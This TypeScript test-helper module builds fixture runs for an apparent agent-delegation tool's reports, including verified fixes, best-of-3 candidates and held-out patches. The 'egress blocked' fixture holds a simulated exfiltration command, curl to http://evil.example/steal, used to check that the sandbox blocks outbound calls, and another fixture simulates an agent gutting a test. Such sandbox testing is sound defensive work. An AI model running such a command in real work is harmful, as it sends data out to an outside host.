import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { probeBubblewrap } from "../../src/containment/sandbox.js";
import { commandRunArgs, runCli } from "./cli.js";
import { FAILING_ADD_PROJECT, makeRepo, tempDir } from "./repo.js";
import { agent, delegate, makeHarness } from "./run.js";

/** Markdown as GitHub renders a PR body or a step summary: CommonMark with GitHub's extensions (tables, strikethrough…). */
export function renderGfm(markdown: string): string {
  return micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
}

/** The rendered HTML's text outside `<pre>` and `<code>`: where a backtick would be one the reader sees as a stray mark. */
export function proseOf(rendered: string): string {
  return rendered.replace(/<pre[\s\S]*?<\/pre>/gu, "").replace(/<code>[\s\S]*?<\/code>/gu, "");
}

/** GitHub's anchor for a heading: lower case, punctuation but `-` and `_` dropped, spaces as `-`. */
export function headingAnchor(text: string): string {
  return text
    .toLowerCase()
    .replace(/<[^>]*>/gu, "")
    .replace(/[^\p{L}\p{N}\s_-]/gu, "")
    .replace(/\s/gu, "-");
}

const bwrap = await probeBubblewrap();

/**
 * Real runs of each kind a report must tell: a verified fix, a repair (attempt 1 failed verification, attempt 2
 * verified from the feedback), best-of-3 candidates, a setup that fails before the agent, an agent whose call out was
 * blocked (where bubblewrap works), and a second run that reused the first's base environment. Each gives its run
 * directory; all live in temp dirs of the current test.
 */
export const REPORT_RUNS: Readonly<Record<string, () => Promise<string>>> = {
  verified: async () => (await delegate(await makeRepo(FAILING_ADD_PROJECT), agent("fixes-add.sh"), { verify: ["npm test"] })).runDir,
  repair: async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    return (await delegate(repo, agent("fixes-add-wrongly-then-from-the-feedback.sh"), { verify: ["npm test"], attempts: 3 })).runDir;
  },
  candidates: async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    const runsDir = join(tempDir("handoff-report-runs"), "runs");
    const onlySecondFixes = `if [ "$HANDOFF_CANDIDATE" = 2 ]; then sed -i 's/a - b/a + b/' math.js; else sed -i 's/a - b/b - a/' math.js; fi`;
    const args = ["--yes", "--runs-dir", runsDir, "--run-id", "best-of-3", "--verify", "npm test", "--candidates", "3"];
    const outcome = await runCli(commandRunArgs(repo, onlySecondFixes, args, "make add() return the sum"));
    if (outcome.code !== 0) throw new Error(outcome.stderr);
    return join(runsDir, "best-of-3");
  },
  "setup failure": async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    return (await delegate(repo, agent("fixes-add.sh"), { verify: ["npm test"], setup: ["echo installing; exit 3"] })).runDir;
  },
  ...(bwrap.ok
    ? {
        "egress blocked": async () => {
          const repo = await makeRepo(FAILING_ADD_PROJECT);
          const callsOut = `${agent("fixes-add.sh")}; curl -sS -m 5 http://evil.example/steal || true`;
          return (await delegate(repo, callsOut, { verify: ["npm test"] })).runDir;
        },
      }
    : {}),
  "held-out patch that does not apply": async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    const holdout = join(tempDir("handoff-holdout"), "hidden.patch");
    // Changes a line of test.js that the agent's rewrite leaves out: the summary names the held-out file.
    writeFileSync(
      holdout,
      "diff --git a/test.js b/test.js\n--- a/test.js\n+++ b/test.js\n@@ -2 +2 @@\n-if (add(2, 2) !== 4) {\n+if (add(2, 3) !== 5) {\n",
    );
    return (await delegate(repo, agent("guts-the-test.sh"), { verify: ["npm test"], holdoutPatches: [holdout], testEdits: "allow" }))
      .runDir;
  },
  "environment reused": async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    const harness = makeHarness();
    const options = { verify: ["npm test"], setup: ["mkdir -p node_modules/dep && echo x > node_modules/dep/index.js"], harness };
    await delegate(repo, agent("fixes-add.sh"), options);
    return (await delegate(repo, agent("fixes-add.sh"), options)).runDir;
  },
};
